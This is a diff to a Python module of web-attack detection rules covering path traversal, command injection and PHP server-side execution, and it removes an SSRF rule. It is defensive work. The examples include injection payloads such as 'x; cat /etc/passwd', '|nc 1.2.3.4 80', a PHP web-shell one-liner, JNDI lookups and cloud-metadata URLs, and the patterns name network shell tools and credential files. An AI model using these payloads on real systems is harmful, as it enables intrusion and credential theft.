@@ -1,4 +1,4 @@
-"""Web-attack signals that reach the server's files, shell and internal network."""
+"""Web-attack signals that reach the server's files and shell."""
 
 from __future__ import annotations
 
@@ -7,7 +7,6 @@ from bastion.core.types import Severity
 
 TRAVERSAL = "webattack.path_traversal"
 CMDI = "webattack.cmdi"
-SSRF = "webattack.ssrf"
 
 _S = Severity.HIGH  # the detector sets each finding's severity from the score
 
@@ -17,11 +16,11 @@ _ENGLISH = (
     " exec eval"
 )
 _UNIX = (
-    r"(?:cat|tac|nl|head|tail|more|less|ls|dir|id|whoami|uname|hostname|ifconfig|ipconfig|netstat"
+    r"(?:cat|tac|nl|head|tail|more|less|ls|dir|id|pwd|whoami|uname|hostname|ifconfig|ipconfig|netstat"
     r"|ps|wget|curl|nc|ncat|netcat|socat|telnet|ssh|scp|ftp|tftp|bash|sh|zsh|ksh|csh|dash|python\d?"
     r"|perl|ruby|php|node|lua|ping|nslookup|dig|host|traceroute|rm|mv|cp|chmod|chown|touch|mkdir"
     r"|echo|printf|sleep|kill|killall|pkill|env|export|set|unset|sudo|su|crontab|base64|xxd|od"
-    r"|powershell|pwsh|cmd|net|certutil|bitsadmin|reg|wmic|systeminfo|tasklist|taskkill|type|find"
+    r"|powershell|pwsh|cmd|net|netsh|certutil|bitsadmin|reg|wmic|systeminfo|tasklist|taskkill|type|find"
     r"|grep|awk|sed|vi|vim|nano|dd|tar|zip|unzip|gzip|gcc|cc|make|eval|exec|time|timeout|nohup"
     r"|xargs|tee|mail|sendmail|useradd|passwd|shutdown|reboot|halt|mount|apt|aptitude|apt-get|yum"
     r"|dnf|rpm|dpkg|pip|npm|git|docker|kubectl|systemctl|service|chroot|strace|gdb|rmt|top|ansible"
@@ -118,6 +117,50 @@ TRAVERSAL_SECRET_FILE = Rule(
     counterexamples=("how do I reset my passwd", "~/.ssh/id_rsa.pub", "/srv/app/.envrc"),
 )
 
+TRAVERSAL_SYSTEM_PATH = Rule(
+    id="traversal.system_path",
+    code=TRAVERSAL,
+    # A value that is nothing but an absolute path into the system's own configuration (`/etc`,
+    # `/proc`, `/boot`, `inetpub`), a web server's logs or configuration, or a
+    # shell's history and start-up files: what a file-inclusion probe asks for. A sentence that
+    # mentions such a path is not a path argument, so the value must be the path alone.
+    pattern=(
+        r"(?i)^\s*['\"]?(?:file:/+)?[\\/]?(?:[a-z]:)?[\\/]+(?:etc|proc|boot|root|private[\\/]etc"
+        r"|usr[\\/]local[\\/]etc|inetpub)[\\/][^\s'\"<>]*['\"]?\s*$"
+        r"|(?i)^\s*etc/(?:passwd|shadow|group|hosts|issue|sudoers)\b"
+        r"|(?i)^\s*[\\/]?(?:[a-z]:)?[\\/][^\s<>]*[\\/][\w.-]*(?:access|error)[._-]?log(?:\.\d+|\.gz)?"
+        r"(?:%00\S*)?\s*$"
+        r"|(?i)^\s*(?:[a-z]:)?[\\/][^\s<>]*[\\/](?:httpd\.conf|apache2?\.conf|nginx\.conf|php\.ini"
+        r"|my\.cnf|sshd_config|web\.config|metabase\.xml|server\.xml|global\.asa|tomcat-users\.xml"
+        r"|applicationhost\.config)\s*$"
+        r"|(?i)^\s*(?:/root|/home/[\w.-]+)?/\.(?:bashrc|bash_profile|bash_history|bash_logout|profile"
+        r"|cshrc|tcshrc|zshrc|zsh_history|kshrc|login|logout|forward|rhosts|netrc|mysql_history"
+        r"|psql_history|viminfo|git-credentials)\s*$"
+    ),
+    severity=_S,
+    score=0.75,
+    message="the value is a path into system configuration, server logs or a shell's files",
+    examples=(
+        "/etc/ssl/openssl.cnf",
+        "etc/group",
+        "/proc/version",
+        "d:\\inetpub\\logs\\u_ex1.log",
+        "/srv/www/logs/error_log",
+        "/opt/lampp/etc/httpd.conf",
+        "/.netrc",
+    ),
+    counterexamples=(
+        "Where is the nginx config, /etc/nginx/nginx.conf?",
+        "/home/ana/projects/etc/notes.md",
+        "~/.bashrc",
+        "proc/parser.py",
+        "/var/log/app/worker.log",
+        "reports/2024/error-log-summary.pdf",
+        "/docs/error-log-guide.md",
+        "C:\\Windows\\Fonts\\arial.ttf",
+    ),
+)
+
 TRAVERSAL_SCHEME = Rule(
     id="traversal.scheme",
     code=TRAVERSAL,
@@ -137,24 +180,29 @@ CMDI_SEPARATOR_COMMAND = Rule(
     code=CMDI,
     pattern=(
         rf"(?:[;&|`\n]|\$\(|\|\||&&)\s*[{{(]?\s*(?:/(?:usr/)?s?bin/)?(?:{_PLAIN}(?:[\s;&|`<>$]|$)|{_WORDY})"
-        rf"|\$\(\s*[a-z]|`\s*(?:/(?:usr/)?s?bin/)?{_PLAIN}\b"
+        rf"|\$\(\s*[a-z][\w-]*(?:[^\w\s()-]|\s|\)(?:[^.]|$)|$)|`\s*(?:/(?:usr/)?s?bin/)?{_PLAIN}\b"
     ),
     severity=_S,
     score=0.85,
     message="command after a shell separator",
     examples=("x; cat /etc/passwd", "a && whoami", "$(id)", "`uname -a`", "|nc 1.2.3.4 80"),
-    counterexamples=("milk; bread; cheese", "Tom & Jerry", "hello; time he came"),
+    counterexamples=(
+        "milk; bread; cheese",
+        "Tom & Jerry",
+        "hello; time he came",
+        "call $(window).scrollTop() first",
+    ),
 )
 
 CMDI_SHELL_SYNTAX = Rule(
     id="cmdi.shell_syntax",
     code=CMDI,
     pattern=(
-        r"\$\{?IFS\}?|\$\{[a-z_]*\}|\{[a-z]+,[^}\s]*\}|/dev/(?:tcp|udp)/|(?i)/bin/(?:ba|z|k|da)?sh"
+        r"\$\{?IFS\}?|[\w/]\$\{[a-z_]*\}|\$\{[a-z_]*\}[\w/]|\{[a-z]+,[^}\s]*\}|/dev/(?:tcp|udp)/|(?i)/bin/(?:ba|z|k|da)?sh"
         r"\b|(?i)\bcmd(?:\.exe)?\s*/[ck]\b|(?i)\bpowershell(?:\.exe)?\s+-|<<<|\$\(\(|\bexec\s+\d"
         r"|(?i)\b(?:nc|ncat|netcat)\s+-[a-z]*e\b|(?i)\bsh\s+-c\b|(?i)\bbash\s+-[ci]\b"
         r"|(?i)\bcurl\s+[^\s]+\s*\|\s*(?:ba)?sh|\b(?:chmod\s+[+0-7]|wget\s+https?://|curl\s+"
-        r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'[a-z]{0,3}'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
+        r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'(?:[a-mo-z][a-z]{0,2}|n[a-z]{1,2}|)'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
         r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|\?{1,3}/|/[a-z]*[*?][a-z]*/"
         r"|\(\)\s*\{\s*[\w:.]*(?:\(\))?\s*[|&]|\(\)\s*\{\s*:\s*;"
         r"|(?:^|[\s;|&])[<>]\(\s*[a-z][\w.-]*\s+[^\s)]"
@@ -172,16 +220,25 @@ CMDI_SHELL_SYNTAX = Rule(
         "diff <(cat a) b",
         "${jndi:ldap://x.example/a}",
         "${${lower:j}ndi:rmi://x.example/a}",
+        "head /etc/${z}hosts",
+        "w'h'oami",
     ),
-    counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }", "x <(y)"),
+    counterexamples=(
+        "costs $5 {approx}",
+        "what? really",
+        "f = () { return x; }",
+        "x <(y)",
+        "Dear ${first_name}, thanks",
+        "fish'n'chips",
+    ),
 )
 
 CMDI_WINDOWS_BATCH = Rule(
     id="cmdi.windows_batch",
     code=CMDI,
     pattern=(
-        r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S+\s*"
-        r"(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*"
+        r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S*[%\"\[\](){}!]\S*\s*==|\S+==|\S+\s*"
+        r"(?:\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*"
         r"(?:\"[^\"]*\"\s+)?%%?\S*\s+in\s*\(|if\s+\"[^\"]*\"\s*==|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
         r"\b|%comspec%|start\s+/b\b)"
     ),
@@ -196,7 +253,7 @@ CMDI_WINDOWS_BATCH = Rule(
         "& FOR %/ IN (a,b,c) DO cmd",
         'For /R C:\\temp\\ %G IN (*.bak) do Echo del "%G"',
     ),
-    counterexamples=("if you exist, reply", "for the win"),
+    counterexamples=("if you exist, reply", "for the win", "if total == 0: return"),
 )
 
 CMDI_SERVER_SIDE = Rule(
@@ -206,10 +263,21 @@ CMDI_SERVER_SIDE = Rule(
     # from the request, and PHP's `${...}` interpolation calling a function.
     pattern=(
         r"(?i)<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod)\b"
-        r"|(?i)\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec)\(\s*(?:\$_"
-        r"(?:get|post|request|cookie|server)\b|['\"]?(?:id|ls|whoami|cat|uname|dir|pwd|nc"
-        r"|wget|curl|bash|sh|ping|nslookup)\b)|(?i)\$\{\s*@?(?:system|print|eval|exec"
-        r"|phpinfo|passthru|shell_exec)\s*\("
+        r"|(?i)\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec)\(\s*(?:\$_(?:get|post"
+        r"|request|cookie|server)\b|['\"]?(?:/(?:usr/)?s?bin/)?(?:id|ls|whoami|cat|uname|dir|pwd|nc"
+        r"|wget|curl|bash|sh|ping|nslookup|sleep|ipconfig|ifconfig|netstat|hostname)\b)"
+        # `eval`, `exec` and `assert` take code in most languages; only a quoted command name or
+        # a request variable makes them a shell call (`assert(id > 0)` is a check on a variable).
+        r"|(?i)\b(?:eval|exec|assert)\(\s*(?:\$_(?:get|post|request|cookie|server)\b|['\"]"
+        r"(?:/(?:usr/)?s?bin/)?(?:id|ls|whoami|cat|uname|dir|pwd|nc|wget|curl|bash|sh|ping"
+        r"|nslookup|sleep|ipconfig|ifconfig|netstat|hostname)\b)"
+        r"|(?i)\$\{\s*@?(?:system|print|eval|exec|phpinfo|passthru|shell_exec|sleep|usleep)\s*\("
+        # A PHP block that runs a command or code at once, PHP's information page called right
+        # after a separator or as the whole value, and a request variable interpolated into a
+        # string that PHP evaluates.
+        r"|(?i)<\?(?:php\b|=)?\s*@?(?:system|passthru|shell_exec|exec|eval|assert|popen|proc_open"
+        r"|phpinfo|echo\s*`)|(?i)(?:^|[;|&'\"`{(]\s*)phpinfo\s*\(\s*\)|(?i)\{\s*\$_(?:get|post"
+        r"|request|cookie|server)\s*\["
     ),
     severity=_S,
     score=0.8,
@@ -219,8 +287,25 @@ CMDI_SERVER_SIDE = Rule(
         "<?php system($_GET['cmd']); ?>",
         "{${system(id)}}",
         "${@print(chr(122))}",
+        "<?php passthru('uptime'); ?>",
+        "<?=exec($q)?>",
+        "x';phpinfo();#",
+        "{${usleep(900000)}}",
+        'echo {$_REQUEST["c"]}',
+        "eval('hostname')",
     ),
-    counterexamples=("<!-- #main content -->", "the system (id card) office", "${name}"),
+    counterexamples=(
+        "<!-- #main content -->",
+        "the system (id card) office",
+        "${name}",
+        "<?xml version='1.0'?>",
+        "see the phpinfo page in the admin panel",
+        "eval(expression) in Python is risky",
+        "assert(id > 0);",
+        "I ran phpinfo() and the version is 8.2",
+        "<?php include 'header.php'; ?>",
+        "<?php require_once __DIR__ . '/vendor/autoload.php';",
+    ),
 )
 
 CMDI_LEADING_COMMAND = Rule(
@@ -235,37 +320,4 @@ CMDI_LEADING_COMMAND = Rule(
     message="field starts with a shell command",
     examples=("ls foo bar", "cat /etc/hosts", ";aptitude", "whoami"),
     counterexamples=("catalog number 5", "time to go home now please"),
-)
-
-
-# --- SSRF --------------------------------------------------------------------------------
-
-SSRF_INTERNAL_HOST = Rule(
-    id="ssrf.internal_host",
-    code=SSRF,
-    pattern=(
-        r"(?i)\b[a-z][a-z0-9+.-]*://(?:[^/@\s]*@)?(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}"
-        r"|0\.0\.0\.0|0+(?:[:/]|$)|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}"
-        r"|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|169\.254\.\d{1,3}\.\d{1,3}"
-        r"|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.\d{1,3}\.\d{1,3}"
-        r"|metadata\.google\.internal|metadata(?:[:/]|$)|instance-data|[\w.-]*\.internal\b"
-        r"|[\w.-]*\.local\b|[\w.-]*\.localhost\b|\[(?:::1?|0*:0*:0*:0*:0*:0*:0*:0*1|::ffff:[\d.:a-f]+"
-        r"|f[cd][0-9a-f]{2}:[0-9a-f:]*|fe[89ab][0-9a-f]:[0-9a-f:%\w]*)\]"
-        r"|\d{8,10}(?:[:/]|$)|0x[0-9a-f]{8}(?:[:/]|$)|0x[0-9a-f]{1,2}\.|0[0-7]{1,3}\.[0-7.]+"
-        r"|\d{1,3}\.\d{1,3}\.\d{1,5}(?:[:/]|$)|\d{1,3}\.\d{1,8}(?:[:/]|$))"
-    ),
-    severity=_S,
-    score=0.8,
-    message="URL host is loopback, private, link-local or a cloud metadata service",
-    examples=(
-        "http://169.254.169.254/latest/meta-data/",
-        "http://metadata.google.internal/computeMetadata/v1/",
-        "http://127.0.0.1:8080/admin",
-        "http://[::1]/",
-        "http://2130706433/",
-        "http://0x7f000001/",
-        "gopher://10.0.0.5:6379/_",
-        "http://[fd00::1]/",
-    ),
-    counterexamples=("https://example.com/page", "http://8.8.8.8/", "see 10.0.0.1 in the docs"),
 )
